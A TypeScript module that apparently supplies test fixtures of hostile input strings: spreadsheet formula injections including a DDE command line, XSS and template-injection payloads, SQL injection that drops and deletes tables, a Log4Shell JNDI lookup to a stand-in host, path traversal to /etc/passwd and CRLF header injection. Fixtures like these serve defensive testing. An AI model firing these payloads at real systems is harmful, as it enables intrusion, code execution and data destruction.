/** What a spreadsheet would run if it took a text for a formula. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example","смотри")',
  "=cmd|'/c calc'!A0",
  '+79991234567',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  'СОШ;=1+1',
  'СОШ,=1+1',
  '"=1+1',
] as const

/** What a page would run if it took a text for markup. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style></textarea><script>alert(1)</script>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">школа</a>',
  ']]><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
] as const

/** What a database, a file system, a log or a program would stumble on. */
export const STRANGE = [
  "'; drop table schools; --",
  "' or '1'='1",
  '1); delete from grants; --',
  '%27%20or%201=1',
  '$1',
  `$\{jndi:ldap://evil.example/a}`,
  '../../../etc/passwd',
  '..\\..\\windows',
  '%2e%2e%2f',
  '\u0000',
  'а\u0000б',
  '\ud800',
  '\u202Eтекст',
  'строка\r\nSet-Cookie: a=b',
  '__proto__',
  'constructor',
  'toString',
  '%s%n%x',
  'null',
  'NaN',
  '9'.repeat(400),
  'я'.repeat(5_000),
] as const
